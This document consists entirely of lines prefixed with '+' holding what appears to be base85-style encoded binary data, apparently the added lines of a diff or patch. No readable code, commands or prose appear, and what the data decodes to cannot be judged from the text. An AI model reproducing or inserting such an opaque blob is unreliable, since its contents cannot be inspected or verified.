+wB^6?_6o?NT^_EFU%?-0luCF$-nYK^JD&+<n;7kdCD$&K`@YQzr%j3E1@r9b}#yoK%nlScn-(&AA+vkK1r@Ms>vNJ%3M_B~ENS`5cL|#|{ieRJDk=$F(
+GCjoiNzl5AX6Z2WjKP$#@3d1tA^f8vkIDT@v>rzO6Rd>_P*px9Hp8>(s3C%;1Dcft}xy1K-sOs74q(yoV|&GB{-R1-cwh$s#xhWpohorqS%0>V!aDq^6
+({=8n?H1h~DGD73<-&e5(kh(t4L?%QFyt}_j9!mPzc9#**g1QCoT!}GvzCEILVkCS#coyH^37(pv7ZJd&<%oO2UlK^iuh!A1qzsf#{HX#4GS0K9q%{-*
+K?)g}qr?L(Szpkf05uVN@`hS`6BMkyPBiWyz^6e8^@QW-;n_M_a^ZL5bYn@Zu!!q5E?pc>(E7<}vuLqIo_TwZyp@Qt3Yp~1j1{XCsK%{e7BHPtivvy8Q
+m(`br^`-gg3H)QNQgFByn;V0Y-1Bm*x2j1mlii-^M~b%ktGF>0N3qpM6)EV_1cyWVAlZhL}@TQ{RF0>>8@6vbat~S`M@JZj#9523}CCVSi~8NA3#Dm?b
+c<=ESxi4shd#qFq<X#BBZ4R6-Q>mK&E4#j2*+$E+YAC3Fhy{m}8hV1RiJ*;sR!g&n?2L1Bj3Kx~b~I`V~FilsOr`c*=Omg2+U6Bt$_H6gM%<Sfw(u;O&
+H&CnEmvodgU(rg4W0Ruw4Qn4K^v{)L)K7+@?>Y)ui9Ao$t!H|8-!T%4HJPggAX##UHu0Tw*vIte&p>1H0CH#4N=+Kk0Wm_GqX!V^!^V%>oVk{kxxu!~+
+BM-AFn%nN21=dxJ5+O1y!bOK}YOodQt$Cxg>w5U0Uhib>1C9(>{kj1e?BP=js05{Peg7i$$1#G7=fuaGV4v4<6(|{&}b&g$IfC(dQYMk7PYrwZsZ!@*#
+Pys}>YM~TNH=PxMDR(v2lCw+r<x6plG^crg_+hWlJeyzoJJf7B&P@wk{X8PUS*J^F%`zrdV;If8NlHz^_6)y{x(+T_jC~j)h#p2OoIEtfE$n{vD;hP2t
+5rjsB|lhAsd%5bmz0P%Y5-IaE7vk!He!gy(k#iGKswoxM@jr4zIU_eWVL3Xc3?4rR2~a7u(6}=D;}zvYsPPH%}{YNPm9kuQP|4*bXdj-7<A6yCP9A!q1
+ZklL#lV$hTG|I1N<BhR{{><xh3kIbmcfzGSx<<ATAZ=7SlLQ?9$BP!^IH8<Ac)?v5S#BZ5;9$sJ!G!n+#7d7n6RQomiU7F&e_pl*fpJB5#gI*)Sj*^*G
+E1ImgzB-@<@}xucdgV!pVy@#_~#p%rWg?7Wz)Z&;9UY7}S&>u?i@9JjN%1QfpGqr^sBEejlj(5cZwi_nKc*A}O3F5VAt;^Aau9FGE07N>L8Ezdw2=7+J
+>3l9jeXG+Zlr?S)+vKZkDkiH1>!-fn(>F^BpFw>MR;+}#p#bQyWn$l`S{u}Qf%eGO(Jn~<FUKtP^d~Q?Nxkk)dC>69svbn<GjrfgGqhSsZ|1eW>h-eTn
+aWq*ObU3jYStsmSm7WcmbmXobmja}nuZ*;rOT{6#+AFANVkB&o2r9u_cw#L1EQTjsM4Fe8x3GuVKYwtgsBMfHvA7>W=nk2pNP6g;z6tMB0E7uhZv4|o8
+d+P|3~53@{dcjbLXN|-u$mK*<Sh6VKh}0LchU2fHryPblhBxH7&-05Tr1pixYM}jVxpubL*k*us{9!7Cy;qoUgG-oL1dp#A(J4ByKuumg{Vi%GyssEBF
+&4_u{6twgT5_}!7}nCSOFq~Zay5xtBzTd4F9ZA<(|aBk5^i-0Ia#bZ*pIUdZGqn*hiQly2rV(%GEd?5t206CWhnH%v}EkNx(`ceyLOVi32wgc=I_G8^>
+L0K>BgQXM8$YU$0k~D8OD9VzqI+MhxcRix;0gzF{+B!|J8&xsUNGz&Dt-mbLsY+`kR;4S6<q9fnWrD)C*c|HZH{;nG5plWL#=Uv3poN>0H!+O+>Xt^pD
+!TXV~b@TE<D2YF${-34ljC{JW<iyNIR8P?Tm6&4?oinVAEU+p8|1Vya58@V??sEht-B2&@E%UqcoRT)d>1lgl?G^;57w<Uz#4gW3f;+a7v0SK%<VSr2G
+M&!k~+HQCOoCfsAyJtCl5Q-j;T)bEm+_N~Ah11y(Y7m>8va&e(%OFgocX$yh;ugRswga!vdvQv_KJroci%}eD7g6hzk<`A#RWTp7NQCzoEl3R;b<~!*H
+L1uD@z9ONlJXOICeey;C}*PNj$MtHjT&oGQL@A}ju(tJ6`1&HP+&u!J^4EX>qX-`k=NbKU@S6M1}hIcAnp=j;sIF=CoBaS)}ED#9nJ)(K9H?1JyA#iC5
+(%EweSTNEky6qySZ{AfIkKEa1k=0Kt1A%Y8j6bJHSXHwZ{CsfQ6cq1s`D69+rcH2e=UrQ7zoorA~RK_?}9A%nBI0i(7LkIlu;96Dwx9xLc4RMFz~`HHf
+k2sa07{LWTTX{Gk?p7xu=)@M}#Q)0^;q)<UW6vA&Uk$8~eT#50V1*s*!v2rQ<X(aSJups;fh-OObo9y5%c7NWL1yz?Y{0f+|7-ODAS7)cw$bVJ@b5siS
+9S;I4+2lC2fH**pY2r{+;tY(~Dx_QZv&X^)z=8d~q4blE&f(w(Qi;wLxgQS+Qe?3E3BY#V9&6*4J5+O;+aIIRIZp1I8%p1;D=y+yZagX7DC?HLiDtBrH
+q_T@pQ7@w3y+t}-lW2s4CH7iO0C%i$oXN;4hpooOa@VkKB%1Q7e7vCwT;B{?#kQWEg*FmoI4C{ip-c(LO$jA1yI^KUMqzV%CcVJ8x^D3BtHs;#$_C*~M
+(vDPT(NW*Z(7NNfDmP9vedhf8})X}kNheC<YIXikfZZ12BE~-q<!7+J@V=~f^DiMOD8r1I$_`0^0*EbcP34mK4IGMo~-l&4-3L5(Ocbygsx+yiDx$)Ig
+3!1dW!2^7xCU1JT5+FA&{kv$!Xp(Q1Wl2-m&bbSfS;LrI~lKhzZ&hcQYcqSo;|yx>`CSD%tT3c`M9P!ZwaeZ2JkIDFQ}86Jb`a<rEJmVji~&z7}jT(+f
+cBf*&I4En+lq4aj(BQmGU7MW@n$1SmBc-V>G7Bz(kk@Fmz83Qv^N;^jB63}W<U<fow_CA$n$Y>BZK%%2&v7X6@yfO&)7P#NGpV4UMW4NKI8z(<J!SYjO
+jxtuAiHFd6prFZ^#BE5_xUN$MQcPz?gV#1FRsNttunpmh7bHSgS3>H8z$To2Bqvds3X&}Mg1xyJ^GQKT?48OfdMjG9dIg198A|h<nCssKLV<M9Lr6}#T
+QLPn=jY~^18W!XV&2HeBaxB=H5r)+u1HqyeYeVe5^^ICfEG27r<>-e;f)d6l9=&}@S{<*u+{4`x%%K0!n8H>m#+xv{L{=s+XQC2rn$g+d`CE2Tvdx^GP
+mljE9%0JN$NDOf1^bZ&D9=zgxRD-<nP?}-c+?j8?b?jsC;2X2BStlj4TRHCNy`$#PB6^d0r`q>3Cc&l5Amg88eos^Tpk^`4Uvk)eWJ>lU-7K&x_G!<i8
+tV?%0|`$PbxCJzCq={Yc%1axREtNV~!_LF8+(xAj}vnr5nnKpo)sj#Kd6$C>Mg+u`(xk(Y^s60M7<`m!X^0|1R-t$jCt22t`)``dwZHYdgy1VX@+hY|R
+~R>88_zVIi>_+eOk9c*T^s1$Md1WwxLqYMhh=^K}d~K|;}DWQCZ!STcm!$s+cQ2p6%e%y(OxXKazk1Kz4zZAw77aOXO7s@89sj8A~ZxFeC0QQ@A50rms
+o9kSe;gq?%kJSJx*3kFsM4>FIbo)uVYw?Yz0^d7vsdZQ%wYRQH|k-r${O6avLISTn?h?P0&DBQ*J0C3>u4I?Q>xX6$PVI>Yn#dgliwuE`R`sMocPEkBD
+EPw;hb0W;RZ(%UD#7~K-W*P5roaFydh@Z%LxHb?%v*2pEhn#-y83V^zCI(tahtdLN_3;YXm$;8Q&1mkpP$FKa!x{$2!3w)0Q-2eh_Y4t4O_{@&@iY-iB
+?p64ev|eV<_b8>B(QKP8lF@NL3gFg3}8~iEK&W&)ogxB)#yM3PEY_k*e;*QqQA!~OCTn>)gmRhjiCo%P3gItdq&gZuY1z1_vGg^@g#nj2PRsS@j|Gz%Q
+1n3z(pQycff;Ct}taUKvdy$rL=ltOz5v<1Ct;YjJ-xyIT~Zt<5;zfUWKH|0vD(WprA{blj|^<cX^!r#wpJ#LG;AF2t$VvC_|EDri9iS#LcklMwnP;cR!
+r4xFcMog{N60$4jXM;BHl3eAi*6EwZ)?EG%`b*`_i}{@BJ2c0UhC<x+nH#uxW<JaJHm?F#Riqd0FCjo7(^s>lD#nI@9`Pi$dZE_f<_Mo>5l7@W3h7-4Q
+0`$~AQP<T1T`)p>XTQ^cAygOl@!B!+s?ofIzb3!C8bNoA82y7kK(1wL6w>W;wxZEfr>zr1^HJZY!?TCZ-%%itr)>=p+!<537XkthZ>e`Jg!~@U6uP=v1
+p2PeNhBeaOCrO99wskgR+6PgY!?B2ga#pOb4U$-}F4D0|m0>t6GAsGHCAM-VT^?jy7NML3!j8TY%WEci;gk!n&AD3Ut%%dMWWDM%DPxq|9Mt%xE%PQD1
+OVY%KWQ+FoFzgUt1=QZrZfc>ti;>Ha?4%MaBYyF8`%@-7FD!S{uhCjzYNE?axJHbap1X29i*;70nXaCTq1DcnZs@@FQ+vu9~5&gD_&;;2G}ejM{M0(`D
+(#jBXYIC4rn;fl-zo@@c35C4(2`_Imm9R4YZUs@jOL%a+26y+qjU(b^lm5I16=dCXafNj05#nbVXe;N!K{VM3Sc}z%+U7_DtW?zfz*JTof*4qZm16LB~
+^pF<(5II7cy&zDU%OpGW~7aC#>IAzPuU7nhhQM9}9-U6Hn&$w)kw_&P(5#X8NPbO5K3JV<r349j+wevzWFUoORR9Tj-~GuZjV3EBiqZJd+#m-l`)Buf@
+U_A149M#MW;5=C;q*{F=9ddeCsRl7+)D+_w>8-xKtWIWR(r?OHkT_k9bM$Z(3C=?Mmf_h2`m$yQ)wvS867P)*JDp;B3v9@L^Q!*#2(I~&9As`q{nub<=
+v^RtwW#ffT?UobEdl!kC9=su896yo2$^6ESg9v48k@M_w25|EI%D+^*^SCrb$DkTjBo0PZyyI-(nHZg4+iz&`lQb~NNE&sL^6^X3!igz~*2<75n*>i{w
+~eYzd^9PL4HWru3oL<3Xb3gkAWv$ET;JsM_?10-K%{(ne3K_h_LkT|mjmC2>?;{<Aljvvr9&;|(nGs8(vmLzj^k$2%cV*D!m3?vA0Hyyz0!&hJ0C{#qM
+!7fwrs|;8AuF{lZ}(IBt+l?01TSoVFlOPk5)<y*=^dn?Op^n8436wve~RlO&L47ok>&OBPj=t*|@Hi+?aY|%g%;g1(Yc}Oac|U|17tH3r9#sX-6|zvSp
+GpN%bV6{>xbAlcD}L%w^Apo{@ew3mZgGq~?Iun6GNjkfEyabbP7w1W+9-UZW@#<($DaZiHNrrtvVRT^gF5Qn3*;opiS|=t(jc$VepVCBa6kH>aKzAk(}
+&TOL5}7wn`uBySzet$Vd4QxzhCc*4?6qsOBUmLl%SBDgIH6I8}-H6IAlq-P_ij2Et_!S>Jii`isZQ*)|fVqxp%p5c$(d$87qt4$(Q;4FyK9hdh^7Ml1m
+=P^6Nz&q=7s>>yIaB4j-DKzV516{ki^7~~lN$?%(ByVJl!+b3ODPe&w6V#Nex88iG$}lTk^4K-oS>kDTn>n*IFziqXWFe8p-Vl_u>LwNQs*J~67bx6%V
+pvthI1bA1W)tE>a0~OQYn`$$axfT^5P)H|@y%Qwh+|1+J}!N>5H;HlXUW#Go>gt>QbkH;mM#FgB0$A9WVLx2Giw^t-d{~&WjIYjc3t$e6iiy%+J2ysIP
+OVGr7dW-9#If)<CV%qrfi*xcN2yy$&9~1yM>lun-v#hq`}4JGM;cDf`_TzMJO>{EFLttX}gI%jf9(Tg-yht5gx;10#)0>MN^HA(35Uajpil(n&Nz0+J>
+*{+s%HWz-NJybYePMlE%3KZhQXbBSInsEf!(03Q0@clcPnq=uRYknxPw*lX%CuaN>xPS8F2n?2=78tt}p5%5~jJzK~{i7cACz`Kx+K$PJ&gP^WAA1qU{
+q2y?0@b^xkud%YU}RGQMgdo+sZ+6AVI6iTxmtcxAvL$<zg8g#rgN(q{Q*w`{I?YJ!7*(~)n86#QOl9<3Xpo|L|F{BHLFvcPk)k|vj@<w<$dl0MiuZRS|
+x_5uXgmI8olVP+Kj%CWyQ`xss`W^Vsq^pg^Xtoy${K*9oi<02sX#x8dQQ9-Bz&a4@UF`<XzE7HK{MS0zU^RK9CJG%iQI~_9uA!ddH)rlCzG_Jh6V;?RN
+(+6zw4;m??TO7s+1^rD2k#j5RN|*mdk!d+$iO@mGT6kMW?S@Pw{e%VyW^?1Z{1ds$%YyGoFu}L$lyQr#KT5n^$l7r;WFq;*ohkoKx3jl)I7=bDIYgVgk
+;uO?f7HT;!1E(XRsPT!}$n-bQiV-@C(gmf;QoO_@kLF8{(%$qKLf54Ge<^hJ7**K0>!VD*d(Ci2;!d7GKz#DtE3?F&(U+Li(CB>e&qy#)BfpDJjGt@`M
+IM?$iUw4*!MgvU#YaW8zchxE>ox6s2EMm|7>H$@tUw<r7q)CD!_8i7RzOY}x1%v!@XraJ@{nRwOyJsse$@X>yy{OTy)b4TDvHd4@o0)7Uf~;i*mBxS%+
+Y_HQn*4FJ(y8RP%%C7xxF3dk;<{_o*r^DNcVBK(q}8(_4s0u6>X;R!KH!<Mj?iVsOn?IPlYAriZ0lbhJ3Wht5me-$h<Rwt62!P0g~;D9HK0FGyZi-<dd
+@iYSUNVPJ|Aa<62tj*_n;T47nE_Oa=KTA(HVIQNk`(|i-6$*mu10S{~oFcJvnRFa@G(rT*s<aUARFXGe8kDAny8-kU+FT4phO0d=I+SWvZWC8pva9|me
+T@|BIO0<JXyon5Djw~7Y{nu`EsaFF!RAIwTG_9em}t9)ynZmSYKv1oX9Fg-&`!c#`lyRpq{@%>i1L>fDfFkAP1@Ez$n#PpW1|K#i`6U@Z$Ndd>vL&hBV
+8bP&hOvF+L}x)3n-d(qozR=WD>%XJ3*eYCuvn}gS`n7j}V;gjU%HYmCs@wpTA5p!R5(M;fml~aI8-8b(QK7cX0$+iW3?hjyfkm5Cx*qt|ubD5=Ucq8MJ
+ITtub4tniqQ%b=V3xI-x7*vowV;iuAI!<74a}A~H_?Am+AOZz%05(Xm-!-Bq)Ixh*s_$PU7Jb|IJeki~3}a^vABW;)SJm)^*VFE-IcJYd7mo=Jtbzgkv
+|Wx84gnZrwu*{3d&54sD_ob?bvBj%zZy<h~ltdrI$c__svlv_VZ$INz+urTvr(Pvn;L8r=Tp&3OUMM<^<Q7v_xa<uIn5#ml{M`uTz4niCGD3~U*LQMH2
+LzVc3Qyh0X`<piJ*KPy6)CI!Jtq7g9Nj8GjesRGKD57oNTTIQ(Mt266j(X}`6g5FlW1|%iW<td?S~rSVr_ce-3CR`hm}yg;p(nWoViVMyT|XkZIo4$>@
+J;x^$P6#L$V-Yrlx><WeX~8=<isKnfnR*<wsb8MWxsmJcogZUeMlH&l+Z^$gsYtp`LU-*w(FjB<oK@BluZ~q?MZTX9Q&cU86a!(B;2dH4o4_=y=yH9t;
+Y>pC=r<BKpr#iNwuv)F0**36+Z1#vy%ir1`A&>e{Y*#gd53DPAmHxhu7qg&`^$%pidJs1MZ_F6K|<i&n5^NqVyY0Qgh1<;vhYlNbSZ(!p^r-KDc^ucFA
+dxf11j~D_&qvWLZ?QcZ)~>26++51P2_K>UUptMco3KvMgFE`t_TYPyhgF*|H#!>KL-H+77(Nq~?%B0vNIMM`u+mq>jpT=@6{R`T~@0y{4tNJ!8jg*`*&
+k`ywg%RS|8XvdefNx#C7pN=-R?$+8$Ry!8<gDS_&(5fG|Jbep#;^$Qz7+|(1|mOf9f$Rvher-NDnLky^CNC6|;+KmP@>cU$>>G;wqqa#AHdCU@7gviS-
+rJWDXex$6HW{Gx$MI%_Xq342ufmuyA!qMYPm@V*1tQpY^=|`p5Gn6X<<=7)=v#efV<4lAP2*)(ywRx#y^1ZX4lfKFbs<zlnpd2)4_AHc?M9?#`!#!mEg
+=3F>YWCksyjH&mT24HWiED>2o9Q+<)RuVy(aU5VBeC-;dO|c#h{ZvWj1}S6M9^o@)3;(m0vR^U!t9BVPIt{@Lme3sg;|xG@x&Pphtsa{qMNb?#Cg@b3E
+GS9STT*0cIAB>5=g-vRqIiBzk`F*tjW$qi!!oniiZ#o8|XG&mKnOj5gZIyAAOpui~x=+F<T_Wt)C#5HX0GfYy(8e%YMTw+%|PhX6YN_ZlPnMk((;5k<K
+JzZa9j3z_rC1g1s&Y^3|ax5j<=xNmiM*EkY;`uPg>T^@Ss}qxkL{qWhj)B3ujsHz9M+v=A2tcz(Md)QYYt*JU^qv0%?Z^0hua9JE1&2D)J#7mI}~YN8P
+5<GZcAwSJU}$0Q0^`)=L|LPJ|QDOhb_6lkB=%`Ub=l0qIVVO%>xhDjTQDh5b38SkkAF$%>VdT~3p4a-I}0Gl}@V(#oV*dU*R60Hlrz&HYJ#QtMWsLmAL
+0~t8ZNX@nclYN{5Xi*1mxB|mrji{nU?$=~QNyfjHOHm48rgfhCnvD+~Ijtho1Mw%6%z6_2=DA6BuxCG9beCT>$hg7k`}Jj9M7}23|0$W*D%ma20H$P0s
+WZa7LDHHBf9W<5j7UI8(u%)c?4vS1x7V>|u_oe=Ejy_^4Ta034$_dQH21#tEM1Kz%Gnui^}9<4r{M~*sZD21PS6*iOoUb>N)5@Y%X+d>1M*6Hz3TDdDQ
+CM&7P`buY?I86Lu=H+_HkA&n>TcsuiehF$N~!~G_AfZX-H6z2lK~TvoUfPScdXrKP~ZzYc&b{W@&d48cFFME+Hh@N!}ZITK4Hp0^dp=s(%RC0-`<K5{T
+7R{C3RjVmCRWM%-+|vNdti#?VbMrcj+A)~;jDB48LBSe--aGh|nQr9ta5uA%%}yY_`HeNKFlr)@e}E-$h$6O*<Eh9U@sL)On$zbUohb_ruZ3fbHz&H*1
+PiJJgb2=`RXAKFlRiV#dmeIN6~2pRF=@rl=3s>(;*rs{FA)n}F`-h^C|P0Pu|71MoB(5obyih{PW!i|`0?A|kzvaOsR!eV^L3Esx*0$T)Q+GI9R7oXz%
+QNG(KYh|b795)$nCKd-9uTBwiCzvzLi>xQIV)QEg24cW@$~yio8*-NinTze+*b|+}0A@<Yty?2~8_aT}GY(_LhU&zzAv-BZ@7dW%@I7WhVak4oJ^8&>)
+#VHUkYOEwymSKNan5A?W~`=VRS^!t3jmBwufx&haG3ewT`ZoXhjGaG;NXDVCIe*w%)c3KOGO-vp!{zNJD}JGFq+X>ICRQ`i;bU3^;GHKcueB0?bO*35Q
+^+y0nur&1C}A>*cxe5oaYUrP=_m0E?Y{u6zsIOR@`$#W-wwZ7(;e`opxKhh?}a#|M**l`nVnt-Eqzq(&!8!s;Q@o9l4o?lk=H3u<a=b(-bxtFZS-7im4
+F(<}%q624qH4L$e)&y0iAP_FTRm;mxoN7s_q)tWNOP?ZmN<hqA6zVl&=)JyA?FvH_r5pwPr(fx1R=KUH-ScQ3~Vr}w&R>J0<X<TTDSz*ClOqyb7SKTkY
+-_7OT68FqwLa9p4RZCK@!r-S;{=Bs$>r|D|zPZH*-XL2AFfYWE#bUTfkxh^C(+gDPwEUByodI8dT-Dvx^Q&*U8NFYtYS3sqyp1_)=Y{rTYH*veS*<6eR
+AJ;PieIfx&FaF`G?xn>Ma^9Jsrr*dDH~#9&d?*(};Gk?a8}#BySr}PA6i6<%H=?Xy?{trgR)_&G1X6RrQ)Ei-NjJK!SYx@c&>S|m3k2joFHivCvxgtpy
+d$#>o_jWZaO1~pAyPVEfh{mfdvD6!mIG$kuM{LIjrzRA(&}vGaH4g>&Qc^3run$dl>j~B%1I4H60Yks+_cPw6qrE)Z*Ez8+U9HALXklFP)Yv@B4oi5Fb
+~^g^Ru>%l)`f#M+_c@y&pC06kTSe)D-uWdZ8S`(MHCq0mfq7u(4Qa^-B7?%nEVNmZ~$DyJn^SV6_r<4i;U>y{3hu(~@gMf{%-u3FMZ8g@7J{nruRb0!F
+*t6UzDB6rJEKEvCueF^NG2CRr?I2-qYGuk&#Upga469-;XPBZuC=t7KkoKFq?{tcdM5$bnqT-DV~lqs(Oad^-85S08PsAikMdQp+GqWGjj_#3M0NjspZ
+I!l-#J$`3U-=EzqbjEt-}!s2V$GcfJPpZQf=QOvB#Uscux!eHH1w21pO7rD25M9Zj_n0T>tN%fpsU02}{#tF+ar<6c^<YM|Kb4n2#RSvlXsqe^7L(nWL
+e}TSL8$QHeiUA{>EIXbkv>u$$QGq4IQ{jX4lpXc7Kutlb!x|FVcF*W4o87ZdRyMGC7st;>Fi%a9P&w=@h`N$c9mYeJY)qjsqpu-MAp8daWnlxfgSu5*X
+=dC9C~nfU6GB9zqJ}Z0<}dI?l`~txtdiRSzQ+xO2A|!2C#@i5H5wGbm1f!C<}FPsj>RGzNRg~Sf#6*g?QFHDM`%t#2hQnmlE173!k*N_o_rgTrbAvbah
+$1TtTAn4;`O!<$+H2lOQ8^bLb=2j-cW`C53o%&(~yiUvQK*~xTbzoy(QzK(blutMPyZlnTJEZO-((lzC2TDJP1Yr2S^E>Et#v+njYKym{1*>LAVMQMGl
+=t5j6f}h?2=llT@m3VRNmA@n*Py2w0f3=dAaef||HprN#cQrYy<Ows?@My}gPbrhJ=f&6C%;4A}}Q@IB~JDRUE$FJsDm*?lMxH#_Q;W!#6X7||%iv29z
+#)LYYb?ozod*X$nkl!yZVQ!t~`S2>6U>qHD3>0FtU?xNh<(6h@%QoLedgR)hlZCHa`^yHS%HC<A&dr~Kv%W-M8jdl>jL3Ne=5W^&C)>{r)z=TqK$?{}s
+Zw@Kiq&$K`$AGX{)^U+1sjB7;C3mEMyAcVDVuGB~>ax`IsdLs<5RbLCPCrD;5MBHLRf{2`xB_&;2aPFqILn{7t%fmes9+assV(gJW(mu^fx@A##gO84A
+cuQOwhQ?ujiuWDJ$R>gIKX8;vQy%S_{(sj$tj-gS(UL-R2pxVX@%uSrLjrf(VnRXA@pP$x$+YmsEoaXEF6SB+x0L3iwTA6VAoM!PP-kFgWX;zj?1(fhZ
+7LK%|Gy)R3p>V5uwt*KM-__^NFw+OxgfVJ%$p<geY;tszGy{!ENnZBo8SE-+Ll)wxq4)>Zx-{r%At^Ib<Er@{F*79T5BlvMLnIbZ*%nqhZ~)Y?W+HvXL
+xVb$3d<n`w1FsNeu|rA`~0BGYr*?0N4fi1x&z)tSyS=`e!LqQjorS-T3N*df9_Ig@f8)h^*A6C9axH#<4VU+v8E`db(5xbc*hL2Ls_FyS6aopXv1%Jk_
+vN|BLx6AIv!;t3{nFnxnExCw#LH>i+MEm<^_bu`|<3oOu0_St15_sQh5s}w+=7uJXNnQ56)_2N)qlXNKOxyVdp)<SXy=}wS-91%so$x^k9+!2^!Rsgmq
+xwbT)wqzfWuu-b!+npcJbb~ZyDxoC96rST^k}$#cnq-`|xnzLVxt}GKtV@;?N`|gvboLn_I315(G1^4LT2@enl&A+;vN@AXKw^Tb215=2fGgH>PJ#tIG
+{!j>O7%)gLzQ9CVoQIcDvzQJPNULEfyM2D)Zi3*Q6Y8Axd3yXTNukqEVdyvjc6s*!1EAuiY}Mww5y9WD#WlWQ`qh6J{-cR5uF``KysS>t?F2Db+ITZMU
+_3)tSF_fr6c`Zu~5sd5W<kG%C5{LFnhUn+$cL8K}$`=k(%K`X6^kzn21T|EBNhAoo-^CueP4dFh&#B;4!CdL3|Q-9$$|4-IQyWV2A0LTQ+@;#&uXY8=+
+X&34t05oJiev6*i`33pwgw{g_3uK;3EF4RDctTlj0_)~7KQQ&J8!Lu$++#0_hOX=F$*WoTpJrW!_Kkw=g%xjoy<yJDT&Nl8*}&yb`VP#yH=a4NOM(UYj
+IU=(y<>W^27ebxs6ODQUPRnZPu8k{-r3FAi)6oFt~40T6k>njl-t;n=4%?>n4sb?Eu6)@u5B5I1OIc;4o7}ypyAr(Br18oYj?%AeHQc2(gv1Pw1Gc?w^
+IjX}bbb_;-mGo^)(Way<MPvp}PK3$*5p&yjD>svZkr@J0;v5oH7c!JNx+qVWtsXWF8y_MRrm>(KhBj4^B-#r$!9^SORmYe8q2|h#C7uqQ`vwq5Ew<E!Q
+r4r6^GPpuO4)MNfu#r+gGFluV@j1}#xAoa1%R8OqtqMmOc89ms|Nch)LFJ6OFXMz?fPv=$;cc<Nty#CHo7rgM>nC}_>5CORb^eQPfRuY<siK_v;FZJA8
+^$!QJUWk&;1hcp2ax^J2F;4=lhi+9g?F>jz+Aat!@e-Pgl_nkp;U@fMs(s3&5FBA;QinOfAr79w$avQ*jL0{xNl`y)(mc2va#m-Hy~Tw|jk4&y1B;r$x
+lWtm;rVjFVq<$KVNrB5tf5H+u%B3=?p&=!D$;U|m9GWQ)j~l?YMcY+R_KQOYAKf0h!;@=O(AP=uPjAoR`brR2x~7Pqj<DaERec+K9$i7^riEAz$MWfyi
+*3m}y@b|npL2UTNXxAc4<W%RpJ7X*eNSXFaIeGkbULyj9LTeom0&jgXNc~;bqD-dgYLqalb4&x!CK}NDL!(i|h;l0JVMZad7ORenqit}cNJyyvgc>FNU
+BWS9_(>ZYrmT<M>r9#UJ2ZETF%-JpvSsqA={?eXEAX-vR+jhEEPII5Ks$doi;TkP4n|fkN<EUBP>q*(>w;=Hnl#2)M2W{Df5$`D=Py$G)wu41hB}Nqk6
+}#uS_!d3GmD5TxkXZst5|hqQCblH8$+A`%Oo0gn(8lDN5mt@f<=grd<nKF*uhawlxh`7(ky@e;bjAxJT#828+aW-~wJz|j6$p#n8JC7R0&HOj3$~#$R6
+{Z61wPHLoOM5C7q|&~8MEcQTkCJbso4F2CbGWI)~M{+26iqfNi*x)yhNDuEgSHrL+3_9Pc@uVxVI}9yUS~<k`;#i5S(axHiM7WBCLcCN$NrL%^o~`w}M
+kJnpjqv2&Qb!rpB0kIFULnE+}W^TExk6l!ciJNSb}DC1v7l)7a+f^rO<1)U)sqH+-3`vJDgfQEY;{r;=@1WZShx)|rfWE<U%|Vp-OH^*~LX9^ZzTsH#1
+>C&fm<Mje41f}}cu%`2&A#&;#*eon%fmGpWDYz)T%EvWbQA$v~1Tcm$QP^K)#oUTQ<GL_wNW{UYF2gi>Y<D}T@h%|~*d+?d|{vMsvs=m$+#j)wP9YvQs
+wctG%uYNQf5nx5~y4dg2g~jG<a2=~g%5hDxoskMoPP#f6rtEFK%JwY#23H;VRi&>Xz}#^EVF^b3G;^wk>v&Zs&N&IQvLP7BS^Q|R9hNN(!*pHj(H7pDq
+zD;3k2CXWj@IIwrNyFTnQ}|b9NuYG=F0enka^xyUU8mN`bhqH_F&$$lpP>;vk?{81fo+BAp{9PSwl@I<-#QI%iTyJM7TFo-w$~jcM4<+I;CSlCh_~^`V
+ER0RDrr?|FJszh|%;2@MJ4FTcc;2<E#SXMI|9+I}v~G?`oGnMAH2~dweWqW}iy(xsc@H07_0F;vFqdIeIO*x~hs(akh;z^%oTT8{mwM5)>pvz;$Suel|
+qSEJ_T>n4lpT54z2cF@k*3jNtV9W71<CYmhBIPJByQym_kJ+HMtJ(SMiP&V(!;*A$OBs2I|TvOmk(VAFMv2{<Y&aK(dX12xq;z$kkl&^fuGEqBP>&OQk
+U8j|_vREDyvKvGq9V$-uXI`$+3zVH$!-)BxOO>*n`#wN^&ud2hE<UiK94sAnT-Uc!H6vC~Zip|OKhh@7|Dk{@loPRd%H*6=go?)Ylnp;cP+K75C#0$<H
+J+}gF0??dTmfQ(WhRu8$Cw-Yyw=pN2AQ+d!OQhM#WvB^@`V%^*$u1CjEq#vTPQ?mc=uIbfc7#RJG<dO0b5gxAmE5zVBkA2EeMUu*?QRF$nAJDDAq5Tw2
+po1Z?P}F%l_WLZ)-ucJQ2WvoKXrx;YY#fRjmamLE0v9x%?p;3#hP<$4mR|Z_Al>w4xW+RgrEU2^{lC^$-RmVKS3)gCa|i;S`-4Nxq`#@YZ93$%h;P@OI
+EYNEB-$@W3)yu$$!l8f+qDXPnyc8>H`dB%MRs%as*69vZdvNoo5ng;U5l!tchx+RTNxLYV+37_c$eu8g5Mrk<gr#+MiNd)hH~+XGDbH8w@u%su~XJP}_
++CG8nmP>L}fQ<Rl9W4Ynw%hfamSIYpKSi-Dbqu=v0bd9{!)EVXHy9PXs<Nl|y9$V1CPRO+yhV7Fx-Zmat6<!L!?&jTb2uhPE}3^z(lT#)o5Or@d+rR2C
+7^b|#F#KAZd`gcWo$HfMuesBsVrQHD1Pz^Nxr4@iA-)<l=-(5v@p!jSVu&Suw3BUsE5j*?v=+~TrK*`&Q9-I9>@FRBnI*+kSgX84}`E`o8N&;&Qy0QZN
+S6sENWfr_>c*2uv54&<*<Pc6L$N@uw@07mFl+u1w)ch$)bJjaawWwRFv`a6!<&x1j$Ii(q=L&F$heSP61J^!b9--}r&iE{i!289q;uwKHE&EaUD!M1z$
+Z~|1X4;OINsRzob@PsjJJWz%>tGX46O-SJQ{~SnWI3k_2p>8N@u<jS<z$i3q_!E2112|&yO>jdCYx*xY>|~}Re>hO2Jp7kAzGvDS)<CeEwvUK6CxmCHt
+BKXog{vfbl!+6v&K9o6uW1gECDhOJb~(zs8HD)ODG?!`4%?gXO}zVfVt<G8>C^oU1bQjfWx?hh~}lRO|t+#O4Yjn@LXW#Iw4l#cQs8MXPXVl)S&#`EO9
+KV_J^y#jEl+(>Kt2{pt>#B&8sjZ0^wvlV|3&>p_gvWjCZ(V{}{u{)=F$tsjwumXV{Ms3igzZdC~SvxesQLUObh8#{7TB?~I2G(4l8?`<D+%VQ@k+H%PA
+$k(9Y+->lAqW#~%crqZ^20%UqeigNG+vTxZ;K<m999X}_!3a-akk-^L=yug*PYO%Ku7b|NJwDY7yN#xeo6i{%20-w8#mO!?igMMTsl3OrUGNJ+l4Dgx>
